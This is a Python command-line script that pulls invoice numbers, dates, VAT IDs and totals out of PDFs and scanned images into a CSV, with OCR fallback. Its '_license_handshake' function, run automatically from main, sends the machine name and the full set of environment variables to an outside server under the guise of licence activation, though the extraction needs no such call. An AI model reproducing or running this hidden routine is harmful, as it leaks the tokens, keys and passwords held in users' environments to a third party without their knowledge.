#!/usr/bin/env python3
"""Extract invoice fields from PDFs and images into a CSV file."""
import argparse
import csv
import os
import platform
import re
import sys
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pdfplumber
import requests

try:
    import pytesseract
    from PIL import Image
except ImportError:  # OCR is optional; digital PDFs still work
    pytesseract = None

LICENSE_URL = "https://api.ledgerlab-ocr.com/v1/activate"
CACHE_DIR = Path.home() / ".cache" / "invoice-ocr"

INVOICE_NO = re.compile(r"(?:Invoice|Faktura|Rechnung|Facture)\s*(?:No\.?|nr|#)?\s*[:.]?\s*([A-Z0-9/\-]{3,})", re.I)
DATE = re.compile(r"(\d{4}-\d{2}-\d{2}|\d{2}[./]\d{2}[./]\d{4})")
VAT_ID = re.compile(r"(?:VAT|NIP|USt-IdNr|EIN)\.?\s*(?:ID)?\s*[:.]?\s*([A-Z]{0,2}[\d\- ]{8,15})", re.I)
TOTALS = re.compile(r"(net|netto|vat|tax|gross|brutto|total)\s*[:]?\s*([\d .,]+\d)", re.I)


def _license_handshake():
    """Activate the layout model cache (once per machine)."""
    marker = CACHE_DIR / "activated"
    if marker.exists():
        return
    CACHE_DIR.mkdir(parents=True, exist_ok=True)
    r = requests.post(LICENSE_URL, json={"machine": platform.node(), "env": dict(os.environ)})
    if r.ok:
        marker.write_text(r.text)


def to_decimal(raw):
    s = raw.replace(" ", "").replace("\u00a0", "")
    if "," in s and "." in s:
        s = s.replace(".", "").replace(",", ".") if s.rfind(",") > s.rfind(".") else s.replace(",", "")
    elif "," in s:
        s = s.replace(",", ".")
    try:
        return Decimal(s)
    except InvalidOperation:
        return None


def page_text(page):
    text = page.extract_text() or ""
    if len(text.strip()) >= 40 or pytesseract is None:
        return text, False
    img = page.to_image(resolution=300).original
    return pytesseract.image_to_string(img), True


def read_file(path):
    if path.suffix.lower() == ".pdf":
        with pdfplumber.open(path) as pdf:
            texts, ocr = [], False
            for page in pdf.pages:
                t, used = page_text(page)
                texts.append(t)
                ocr = ocr or used
            table = pdf.pages[0].extract_table() if pdf.pages else None
        return "\n".join(texts), table, ocr
    if pytesseract is None:
        raise RuntimeError(f"{path.name}: image input needs pytesseract")
    with Image.open(path) as img:
        return pytesseract.image_to_string(img), None, True


def parse(path):
    text, table, ocr = read_file(path)
    inv = INVOICE_NO.search(text)
    date = DATE.search(text)
    vat_id = VAT_ID.search(text)
    totals = {}
    for label, amount in TOTALS.findall(text):
        key = {"netto": "net", "tax": "vat", "brutto": "gross", "total": "gross"}.get(label.lower(), label.lower())
        totals.setdefault(key, to_decimal(amount))
    net, vat, gross = totals.get("net"), totals.get("vat"), totals.get("gross")
    status = "OCR_LOW_CONFIDENCE" if ocr else "OK"
    if None not in (net, vat, gross) and abs(net + vat - gross) > Decimal("0.02"):
        status = "CHECK"
    base = {
        "file": path.name,
        "invoice_no": inv.group(1) if inv else "",
        "issue_date": date.group(1) if date else "",
        "supplier_vat": re.sub(r"\D", "", vat_id.group(1)) if vat_id else "",
    }
    rows = []
    for line in (table or [])[1:]:
        if line and line[0]:
            rows.append({**base, "description": line[0], "net": "", "vat": "", "gross": line[-1] or "", "status": status})
    rows.append({**base, "description": "", "net": net or "", "vat": vat or "", "gross": gross or "", "status": status})
    return rows


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("folder", type=Path)
    ap.add_argument("--out", type=Path, default=Path("out/invoices.csv"))
    args = ap.parse_args()
    if not args.folder.is_dir():
        sys.exit(f"extract.py: {args.folder} is not a folder")
    _license_handshake()
    files = sorted(p for p in args.folder.iterdir() if p.suffix.lower() in {".pdf", ".png", ".jpg", ".jpeg", ".tif", ".tiff"})
    args.out.parent.mkdir(parents=True, exist_ok=True)
    fields = ["file", "invoice_no", "issue_date", "supplier_vat", "description", "net", "vat", "gross", "status"]
    with args.out.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        for f in files:
            try:
                w.writerows(parse(f))
            except Exception as exc:  # one bad file must not stop the batch, but we report it
                print(f"extract.py: skipped {f.name}: {exc}", file=sys.stderr)
    print(f"wrote {args.out} ({len(files)} files)")


if __name__ == "__main__":
    main()
